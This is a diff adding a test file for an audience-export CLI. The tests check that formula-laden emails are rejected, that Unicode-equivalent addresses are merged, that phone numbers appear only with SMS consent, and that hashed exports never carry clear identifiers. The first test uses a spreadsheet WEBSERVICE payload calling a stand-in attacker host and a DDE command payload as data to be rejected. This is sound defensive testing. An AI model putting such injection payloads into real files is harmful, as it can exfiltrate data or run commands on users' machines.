@@ -1,0 +1,160 @@
+/**
+ * Hostile data and definitions (issue 12): no formula through a "valid" email, no identifier where
+ * it does not belong, messages that cannot be forged.
+ */
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { runCli } from "./helpers/run-cli.js";
+
+let work: string;
+beforeAll(async () => {
+  work = await mkdtemp(join(tmpdir(), "audience-hostile-"));
+});
+afterAll(async () => {
+  await rm(work, { recursive: true, force: true });
+});
+
+let n = 0;
+/** A shop folder with these contacts, orders and segments; returns its config path. */
+async function shop(contacts: string[], segments: string, orders?: string[]): Promise<string> {
+  const dir = join(work, `shop${n++}`);
+  await rm(dir, { recursive: true, force: true });
+  await import("node:fs/promises").then((fs) => fs.mkdir(dir));
+  await writeFile(join(dir, "contacts.csv"), contacts.join("\n") + "\n");
+  await writeFile(
+    join(dir, "orders.csv"),
+    (orders ?? ["order_id,customer_id,created_at,total", "1,c1,2026-06-01 10:00:00,10.00"]).join(
+      "\n",
+    ) + "\n",
+  );
+  await writeFile(join(dir, "segments.yaml"), segments);
+  await writeFile(
+    join(dir, "audience.yaml"),
+    "contacts: contacts.csv\norders: orders.csv\nsegments: segments.yaml\nas_of: 2026-06-30\ndefault_country: FR\n",
+  );
+  return join(dir, "audience.yaml");
+}
+
+const HEADER = "customer_id,email,phone,first_name,email_consent,sms_consent";
+
+describe("no formula through a valid-looking email", () => {
+  it("=WEBSERVICE(…)@x.com and a DDE payload are invalid emails, never written", async () => {
+    const config = await shop(
+      [
+        HEADER,
+        'c1,"=WEBSERVICE(""http://evil.example/""&A1)@x.com",,Ann,yes,no',
+        "c2,=cmd|'/C calc'!A0@x.com,,Bob,yes,no",
+        "c3,ok@example.com,,Cid,yes,no",
+      ],
+      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
+    );
+    const out = join(work, `out${n}`);
+    const run = await runCli(["build", "--config", config, "--out", out]);
+    expect(run.code).toBe(0);
+    expect(run.stderr).toContain("2 × invalid email left out");
+    expect(await readFile(join(out, "all.csv"), "utf8")).toBe(
+      "customer_id,email,phone,first_name,last_name\r\nc3,ok@example.com,,Cid,\r\n",
+    );
+  });
+
+  it("the same address in NFC and NFD is one person", async () => {
+    const config = await shop(
+      [
+        HEADER,
+        "c1,\u00e9lo\u00efse@exemple.fr,,A,yes,no",
+        "c2,e\u0301loi\u0308se@exemple.fr,,B,yes,no",
+      ],
+      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
+    );
+    const out = join(work, `out${n}`);
+    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
+    const rows = (await readFile(join(out, "all.csv"), "utf8")).split("\r\n").filter(Boolean);
+    expect(rows).toEqual([
+      "customer_id,email,phone,first_name,last_name",
+      "c1,\u00e9lo\u00efse@exemple.fr,,A,",
+    ]);
+  });
+});
+
+describe("no identifier where it does not belong", () => {
+  const contacts = [
+    HEADER,
+    "c1,a@example.com,06 39 98 00 01,Ann,yes,no",
+    "c2,b@example.com,06 39 98 00 02,Bob,yes,yes",
+  ];
+
+  it("an email segment writes the phone column only for members who agreed to SMS; validate warns", async () => {
+    const config = await shop(
+      contacts,
+      "segments:\n  mail:\n    where: known_contact\n    channel: email\n    columns: [phone]\n",
+    );
+    const out = join(work, `out${n}`);
+    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
+    expect(await readFile(join(out, "mail.csv"), "utf8")).toBe(
+      "customer_id,email,phone,first_name,last_name,phone\r\n" +
+        "c1,a@example.com,,Ann,,\r\n" +
+        "c2,b@example.com,,Bob,,'+33639980002\r\n",
+    );
+    const validate = await runCli(["validate", "--config", config]);
+    expect(validate.stdout + validate.stderr).toContain(
+      "columns: phone in a email segment is written only for members who agreed to SMS",
+    );
+  });
+
+  it("--hash with a profile that has no hashed form is an error, nothing written", async () => {
+    const config = await shop(contacts, "segments:\n  mail:\n    where: known_contact\n");
+    const out = join(work, `out${n}`);
+    const run = await runCli(["build", "--config", config, "--out", out, "--hash", "-q"]);
+    expect([run.code, run.stdout, run.stderr]).toEqual([
+      2,
+      "",
+      'error --hash: segment "mail" is written with the generic profile, which has no hashed form\n' +
+        "  hint: hashed profiles: meta, google-ads (--format meta or --format google-ads)\n",
+    ]);
+  });
+
+  it("a hashed file never carries a clear identifier; the manifest records what was hashed", async () => {
+    const config = await shop(
+      contacts,
+      "segments:\n  mail:\n    where: known_contact\n    columns: [email]\n  plain:\n    where: known_contact\n",
+    );
+    const out = join(work, `out${n}`);
+    const run = await runCli([
+      "build",
+      "--config",
+      config,
+      "--out",
+      out,
+      "--hash",
+      "--format",
+      "meta",
+      "-q",
+    ]);
+    expect([run.code, run.stderr]).toEqual([
+      1,
+      'error --hash: segment "mail" lists email in columns: a hashed file never carries an identifier in clear\n' +
+        "  hint: remove these columns from the segment (the profile's own columns carry them, hashed)\n",
+    ]);
+    const ok = await runCli([
+      "build",
+      "--config",
+      config,
+      "--out",
+      out,
+      "--hash",
+      "--format",
+      "meta",
+      "--only",
+      "plain",
+      "-q",
+    ]);
+    expect(ok.code).toBe(0);
+    const manifest = JSON.parse(await readFile(join(out, "manifest.json"), "utf8")) as {
+      segments: { id: string; hashed: boolean }[];
+    };
+    expect(manifest.segments.map((s) => [s.id, s.hashed])).toEqual([["plain", true]]);
+    expect(await readFile(join(out, "plain.csv"), "utf8")).not.toContain("@example.com");
+  });
+});
